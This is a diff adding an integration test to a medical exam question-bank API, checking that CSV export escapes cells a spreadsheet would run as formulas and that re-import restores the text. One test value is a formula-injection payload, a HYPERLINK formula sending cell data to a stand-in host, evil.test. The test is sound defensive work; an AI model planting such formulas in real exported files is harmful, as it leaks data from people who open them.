@@ -1,8 +1,10 @@
 import { randomUUID } from 'node:crypto';
 import { itemJsonSchema, type QuestionRecord } from '@medprep/shared';
+import { stringify } from 'csv-stringify/sync';
 import Redis from 'ioredis';
 import { DataSource } from 'typeorm';
 import { dataSourceOptions } from '../src/database/data-source';
+import { readCsvRecords } from '../src/modules/questions/csv-records';
 import { RedisKeys } from '../src/redis/keys';
 import { signUp, type SignedUpUser } from './helpers/accounts';
 import { grantSubscription } from './helpers/question-bank';
@@ -345,6 +347,36 @@ describe('admin questions REST', () => {
       // The import publishes its content as a new version, reviewed by the importer today.
       const today = new Date().toISOString().slice(0, 10);
       expect((await recordsOf(examC)).filter((r) => r.type === 'sba')).toEqual(before.map((r) => ({ ...r, reviewedAt: today })));
+    });
+
+    it('should neutralise cells a spreadsheet would run as a formula, and import them back to the same texts', async () => {
+      const hyperlink = '=HYPERLINK("https://evil.test/?d="&A1,"Open the guideline")';
+      const stem = '-5 mmol/L is the change in potassium after the infusion in this 70-year-old man. What is the next step?';
+      const created = await create('formula-cells', {
+        stem,
+        options: [
+          { key: 'A', text: hyperlink, explanation: '=1+1 is not an explanation a spreadsheet should compute.' },
+          { key: 'B', text: '+ve troponin', explanation: '@SUM(A1:A9) stays text.' },
+          { key: 'C', text: 'Subacute thyroiditis', explanation: 'Painful.' },
+        ],
+      });
+      const res = await asAdmin().get(`/api/admin/questions/export?exam=${EXAM_A}&format=csv&type=sba`).expect(200);
+      const [header, ...rows] = readCsvRecords(res.text);
+      const row = rows.find((r) => r.fields[0] === created.key)!;
+      const cell = (column: string) => row.fields[header.fields.indexOf(column)];
+      expect(cell('option_A')).toBe(`'${hyperlink}`);
+      expect(cell('option_A_explanation')).toBe("'=1+1 is not an explanation a spreadsheet should compute.");
+      expect(cell('option_B')).toBe("'+ve troponin");
+      expect(cell('option_B_explanation')).toBe("'@SUM(A1:A9) stays text.");
+      expect(cell('stem')).toBe(`'${stem}`);
+      expect(rows.flatMap((r) => r.fields).filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+
+      const file = stringify([header.fields, row.fields]);
+      await asAdmin().send('/api/admin/questions/import', 'text/csv', file).expect(200);
+      const { reviewedAt: _before, ...before } = created.record;
+      const { reviewedAt: _after, ...after } = (await asAdmin().get(`/api/admin/questions/${created.id}`).expect(200)).body.record as QuestionRecord;
+      expect(after).toEqual(before);
+      expect(after.type === 'sba' && after.options[0].text).toBe(hyperlink);
     });
 
     it('should refuse CSV for an exam with items of other types, naming them, and an unknown exam or format', async () => {
